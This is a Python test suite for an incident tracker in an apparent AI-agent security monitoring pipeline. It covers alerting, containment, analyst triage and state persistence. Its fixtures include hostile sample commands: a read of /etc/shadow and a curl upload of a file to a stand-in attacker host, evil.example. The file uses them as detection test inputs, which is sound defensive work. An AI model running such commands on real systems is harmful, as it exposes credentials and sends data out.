"""IncidentTracker: episodes, timeline, containment, analyst actions, state and bounds."""

from __future__ import annotations

import json

import orjson

from pipeline.incidents import IncidentTracker
from pipeline.incidents.tracker import analyst_update, merge_headers, trim_event
from pipeline.records import Output, incident_id_for, iso_time
from pipeline.settings import IncidentSettings

from .factories import T0, Clock, ack, alert, command, control, event


def tracker(clock: Clock | None = None, **kw: object) -> IncidentTracker:
    return IncidentTracker(IncidentSettings(**kw), clock or Clock())


def enriched(ev, findings, risk=70):  # the processor's enriched Output for ``ev``
    value = dict(ev.data)
    value["agentwatch"] = {"risk_score": risk, "findings": findings}
    return Output("enriched", ev.agent_id, value)


FINDING = {"detector": "rules", "id": "cred.read_shadow", "severity": "high", "score": 80,
           "reason": "reads /etc/shadow", "technique": "T1003"}


def test_alert_opens_incident_and_later_alerts_join() -> None:
    tr = tracker()
    e1 = event(n=1, command="cat /etc/shadow")
    out = tr.on_outputs(e1, [alert(e1, severity="medium", score=55)])
    assert [o.kind for o in out] == ["incidents"]
    rec = out[0].value
    inc_id = incident_id_for("agent-1", e1.event_id)
    assert out[0].key == rec["incident_id"] == inc_id
    assert rec["status"] == "open" and rec["severity"] == "medium" and rec["peak_risk"] == 55
    assert rec["owner"] == "alice@example.com" and rec["enforcement_point"] == "gate-1"
    assert [e["type"] for e in rec["timeline"]] == ["event", "alert"]
    assert tr.has_open("agent-1") and not tr.has_open("agent-2")

    e2 = event(n=2, ts=T0 + 30, command="curl -T /tmp/x http://evil.example")
    out2 = tr.on_outputs(e2, [alert(e2, severity="critical", score=92, rule="exfil.curl_upload", first_event=e2,
                                    incident=inc_id)])
    rec2 = out2[0].value
    assert rec2["incident_id"] == inc_id, "an alert naming the open episode joins it"
    assert rec2["version"] == 2 and rec2["severity"] == "critical" and rec2["peak_risk"] == 92
    assert [e["type"] for e in rec2["timeline"]] == ["event", "alert"], "a version carries only new entries"
    assert rec2["timeline_total"] == 4 and rec2["counts"]["alerts"] == 2


def test_alert_without_incident_id_joins_open_incident_or_opens_one() -> None:
    tr = tracker()
    e1 = event(n=1)
    first = tr.on_outputs(e1, [alert(e1, incident=None)])[0].value
    assert first["incident_id"] == incident_id_for("agent-1", e1.event_id)
    e2 = event(n=2, ts=T0 + 5)
    assert tr.on_outputs(e2, [alert(e2, incident=None, rule="other")])[0].key == first["incident_id"]


def test_events_without_outputs_add_nothing_unless_suspicious_during_an_incident() -> None:
    tr = tracker()
    e0 = event(n=0)
    assert tr.on_outputs(e0, []) == []
    assert tr.on_outputs(e0, [enriched(e0, [FINDING])]) == [], "no open incident: nothing to join"
    e1 = event(n=1)
    tr.on_outputs(e1, [alert(e1)])
    e2 = event(n=2, ts=T0 + 1)
    assert tr.on_outputs(e2, [enriched(e2, [])]) == [], "benign events are not evidence"
    e3 = event(n=3, ts=T0 + 2, command="cat /etc/shadow")
    out = tr.on_outputs(e3, [enriched(e3, [FINDING], risk=77)])
    assert [e["type"] for e in out[0].value["timeline"]] == ["event", "finding"]
    assert out[0].value["peak_risk"] == 80 and out[0].value["techniques"] == ["T1003"]


def test_isolation_ack_contains_the_incident_with_ack_time() -> None:
    tr = tracker()
    e1 = event(n=1)
    cmd = command(e1, "isolate")
    out = tr.on_outputs(e1, [alert(e1, severity="critical", score=97), cmd])
    assert [e["type"] for e in out[0].value["timeline"]] == ["event", "alert", "command"]
    got = tr.on_ack(ack(cmd, "applied", at=T0 + 0.4))
    rec = got[0].value
    assert rec["status"] == "contained" and rec["contained_at"] == iso_time(T0 + 0.4)
    entry = rec["timeline"][0]
    assert entry["type"] == "ack" and entry["data"]["ack_seconds"] == 0.4 and entry["actor"] == "gate-1"
    assert tr.on_ack(ack(cmd, "applied", at=T0 + 0.4)) == [], "a duplicated ack changes nothing"


def test_non_containment_ack_and_rejection_do_not_contain() -> None:
    tr = tracker()
    e1 = event(n=1)
    step = command(e1, "step_down")
    tr.on_outputs(e1, [alert(e1), step])
    assert tr.on_ack(ack(step, "applied"))[0].value["status"] == "open"
    iso = command(e1, "isolate", seq=2)
    tr.on_outputs(None, [iso])
    rec = tr.on_ack(ack(iso, "rejected"))[0].value
    assert rec["status"] == "open" and rec["contained_at"] is None
    assert tr.on_ack({"agent_id": "nobody", "command_id": "x", "status": "applied"}) == []


def test_analyst_assign_then_resolve_closes_the_episode() -> None:
    tr = tracker()
    e1 = event(n=1)
    inc_id = tr.on_outputs(e1, [alert(e1)])[0].key
    rec = tr.on_control(control("agent-1", inc_id, assignee="dave", comment="looking"))[0].value
    assert rec["status"] == "triaged" and rec["assignee"] == "dave" and rec["triaged_at"]
    entry = rec["timeline"][0]
    assert entry["type"] == "analyst" and entry["actor"] == "carol" and entry["data"]["comment"] == "looking"
    rec = tr.on_control(control("agent-1", inc_id, ts=T0 + 900, status="resolved", disposition="true_positive",
                                comment="credential rotated"))[0].value
    assert rec["status"] == "resolved" and rec["disposition"] == "true_positive" and rec["resolved_by"] == "carol"
    assert not tr.has_open("agent-1")
    e2 = event(n=2, ts=T0 + 1000)
    again = tr.on_outputs(e2, [alert(e2, first_event=e2, rule="again")])[0].value
    assert again["incident_id"] != inc_id and again["version"] == 1, "a new episode opens a new incident"


def test_false_positive_and_status_never_moves_back() -> None:
    tr = tracker()
    e1 = event(n=1)
    cmd = command(e1, "isolate")
    inc_id = tr.on_outputs(e1, [alert(e1), cmd])[0].key
    tr.on_ack(ack(cmd))
    rec = tr.on_control(control("agent-1", inc_id, status="triaged"))[0].value
    assert rec["status"] == "contained", "triage after automatic containment keeps contained"
    assert "status stays contained" in rec["timeline"][0]["data"]["notes"]
    rec = tr.on_control(control("agent-1", inc_id, ts=T0 + 700, status="false_positive", comment="backup job"))[0].value
    assert rec["status"] == "false_positive" and rec["disposition"] == "false_positive"
    assert tr.on_control(control("agent-1", inc_id, ts=T0 + 800, status="open")) == []


def test_control_for_unknown_incident_or_agent_is_ignored() -> None:
    tr = tracker()
    e1 = event(n=1)
    tr.on_outputs(e1, [alert(e1)])
    assert tr.on_control(control("agent-1", "inc_nope", status="resolved")) == []
    assert tr.on_control(control("agent-9", "inc_nope", status="resolved")) == []
    assert tr.on_control({"type": "something_else", "agent_id": "agent-1"}) == []


def test_release_and_suppression_controls_are_recorded() -> None:
    tr = tracker()
    e1 = event(n=1)
    tr.on_outputs(e1, [alert(e1)])
    msg = {"control_id": "c1", "type": "release", "agent_id": "agent-1", "by": "erin", "reason": "verified",
           "ts": "2026-09-21T14:00:00Z", "payload": {}}
    rec = tr.on_control(msg)[0].value
    assert rec["timeline"][0]["actor"] == "erin" and "released" in rec["timeline"][0]["summary"]


def test_audit_alerts_never_open_incidents() -> None:
    tr = tracker()
    e1 = event(n=1)
    audit = alert(e1, kind="suppression", severity="info", incident=None)
    assert tr.on_outputs(None, [audit]) == []
    assert not tr.has_open("agent-1")


def test_state_round_trip_through_json_continues_identically() -> None:
    def run(with_restart: bool) -> list[bytes]:
        clock = Clock()
        tr = tracker(clock)
        e1, e2 = event(n=1), event(n=2, ts=T0 + 10)
        cmd = command(e2, "isolate", incident=incident_id_for("agent-1", e1.event_id))
        outs = tr.on_outputs(e1, [alert(e1)])
        if with_restart:
            blob = json.loads(json.dumps(tr.dump_state("agent-1")))
            tr = tracker(clock)
            tr.load_state("agent-1", blob)
        clock.now = T0 + 10
        outs += tr.on_outputs(e2, [alert(e2, first_event=e1, score=90), cmd])
        outs += tr.on_ack(ack(cmd))
        return [orjson.dumps(o.value, option=orjson.OPT_SORT_KEYS) for o in outs]

    assert run(False) == run(True)


def test_stateful_protocol_dirty_and_forget() -> None:
    tr = tracker()
    e1 = event(n=1)
    tr.on_outputs(e1, [alert(e1)])
    assert tr.dirty_agents() == {"agent-1"}
    assert tr.dirty_agents() == set()
    assert tr.dump_state("agent-2") is None
    tr.forget("agent-1")
    assert not tr.has_open("agent-1")
    tr.load_state("agent-3", {"open": "garbage"})
    assert not tr.has_open("agent-3")


def test_evidence_and_state_are_bounded() -> None:
    tr = tracker(max_evidence_events=5, max_open_per_agent=2)
    e0 = event(n=0)
    tr.on_outputs(e0, [alert(e0)])
    for n in range(1, 200):
        e = event(n=n, ts=T0 + n, command="x" * 50_000)
        tr.on_outputs(e, [enriched(e, [FINDING])])
    blob = tr.dump_state("agent-1")
    assert len(orjson.dumps(blob)) < 60_000
    inc = next(iter(blob["open"].values()))
    assert inc["nev"] == 5 and inc["h"]["counts"]["events"] == 200
    for n in range(3):  # three more episodes: only the newest two stay in memory
        e = event(n=1000 + n, ts=T0 + 5000 + n)
        tr.on_outputs(e, [alert(e, first_event=e, rule=f"r{n}")])
    assert len(tr.open_incidents("agent-1")) == 2


def test_trim_event_keeps_a_valid_event() -> None:
    from pipeline.validation import validate_event

    big = event(command="y" * 100_000, action_args=None).data
    big["action"]["args"] = {f"k{i}": "v" * 500 for i in range(100)}
    small = trim_event(big, 4096)
    assert len(orjson.dumps(small)) <= 4096 and small["agentwatch_truncated"] is True
    validate_event(small)
    tiny = event().data
    assert trim_event(tiny, 4096) is tiny


def test_deterministic_outputs() -> None:
    def run() -> list[bytes]:
        tr = tracker()
        out = []
        for n in range(20):
            e = event(agent=f"a{n % 3}", n=n, ts=T0 + n)
            out += tr.on_outputs(e, [alert(e, first_event=event(agent=f"a{n % 3}", n=n % 3, ts=T0 + n % 3))])
        return [orjson.dumps(o.value, option=orjson.OPT_SORT_KEYS) for o in out]

    assert run() == run()


def test_merge_headers_is_order_independent() -> None:
    tr = tracker()
    e1 = event(n=1)
    cmd = command(e1)
    v1 = tr.on_outputs(e1, [alert(e1, severity="medium", score=40), cmd])[0].value
    v2 = tr.on_ack(ack(cmd))[0].value
    inc_id = v1["incident_id"]
    v3 = tr.on_control(control("agent-1", inc_id, assignee="dave"))[0].value
    cli, _ = analyst_update(v1, by="bob", ts="2026-09-21T15:00:00.000Z", status="resolved", disposition="benign")
    versions = [v1, v2, v3, cli]
    import itertools

    results = set()
    for perm in itertools.permutations(versions):
        acc = dict(perm[0])
        for v in perm[1:]:
            acc = merge_headers(acc, v)
        acc.pop("timeline", None)
        results.add(orjson.dumps(acc, option=orjson.OPT_SORT_KEYS))
    assert len(results) == 1
    final = orjson.loads(results.pop())
    assert final["status"] == "resolved" and final["disposition"] == "benign"
    assert final["assignee"] == "dave" and final["contained_at"] is not None


def test_records_follow_the_schemas() -> None:
    """The tracker's output matches incident-record.schema.json, and the fixtures it is tested with
    match the responder's alert, command and ack schemas (so the tests feed it the real shapes)."""
    import schemas

    inc_v, alert_v = schemas.validator("incident-record"), schemas.validator("alert")
    cmd_v, ack_v, ctl_v = schemas.validator("enforcement-command"), schemas.validator("enforcement-ack"), schemas.validator("control")
    tr = tracker()
    e1 = event(n=1)
    a, cmd = alert(e1), command(e1)
    assert not list(alert_v.iter_errors(a.value)) and not list(cmd_v.iter_errors(cmd.value))
    k = ack(cmd)
    assert not list(ack_v.iter_errors(k))
    outs = tr.on_outputs(e1, [a, cmd]) + tr.on_ack(k)
    inc_id = outs[0].key
    msg = control("agent-1", inc_id, status="false_positive", comment="benign")
    assert not list(ctl_v.iter_errors(msg))
    outs += tr.on_control(msg)
    assert [o.value["status"] for o in outs] == ["open", "contained", "false_positive"]
    for o in outs:
        errors = [e.message for e in inc_v.iter_errors(o.value)]
        assert not errors, errors
